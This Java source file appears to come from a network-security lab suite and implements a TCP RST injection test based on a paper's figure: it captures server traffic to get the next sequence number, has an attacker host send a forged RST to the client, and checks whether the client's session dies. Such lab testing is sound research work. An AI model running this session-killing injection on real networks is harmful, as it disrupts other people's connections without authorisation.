package dev.bastion.agent.attack;

import dev.bastion.agent.lab.LabException;
import java.time.Duration;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The paper's Figure 14: a forged RST, claiming to come from the server, into the client's live session. Linux
 * accepts a RST only with the exact next sequence number (RFC 5961); the suite hands the attacker that number
 * (read from a capture at the server, as an eavesdropper would know it), so what is tested is whether the forged
 * segment gets through. Proven by the client's session dying.
 */
final class TcpRstInjection implements Attack {
    private static final Pattern SEGMENT = Pattern.compile("Flags \\[([^]]*)], seq (\\d+)(?::(\\d+))?");

    @Override
    public String name() {
        return "tcp-rst-injection";
    }

    @Override
    public String goal() {
        return "kill a peer's TCP session with a forged RST (Figure 14)";
    }

    @Override
    public Component component() {
        return Component.SOURCE_VERIFICATION;
    }

    @Override
    public Finding attempt(AttackLab lab) {
        Cast cast = lab.cast();
        String server = Cast.ip(cast.server());
        String client = Cast.ip(cast.client());
        int port = cast.serverPort();
        try (Capture capture = lab.capture(cast.server(), "tcp and port " + port);
             Session session = lab.session(cast.client(), server, port)) {
            long seq = nextSequence(capture.packets("src host " + server + " and src port " + port + " and dst port "
                    + session.localPort(), "-S"));
            lab.python(cast.attacker(), "tcp_rst.py", "eth0", Cast.mac(cast.client()), server, Integer.toString(port),
                    client, Integer.toString(session.localPort()), Long.toString(seq));
            boolean killed = !session.survives(Duration.ofSeconds(2));
            return Finding.effect(killed, "forged RST " + server + ":" + port + " > " + client + ":" + session.localPort()
                    + " seq " + seq + "; " + cast.client().name() + "'s session: " + session.state());
        }
    }

    /** The sequence number the client expects next: the end of the server's last segment. */
    static long nextSequence(List<String> serverSegments) {
        long next = -1;
        for (String line : serverSegments) {
            Matcher m = SEGMENT.matcher(line);
            if (m.find()) {
                long start = Long.parseLong(m.group(2));
                next = m.group(3) != null ? Long.parseLong(m.group(3)) : m.group(1).contains("S") ? start + 1 : start;
            }
        }
        if (next < 0) {
            throw new LabException("no segment of the server's was captured: " + serverSegments);
        }
        return next & 0xffffffffL;
    }
}
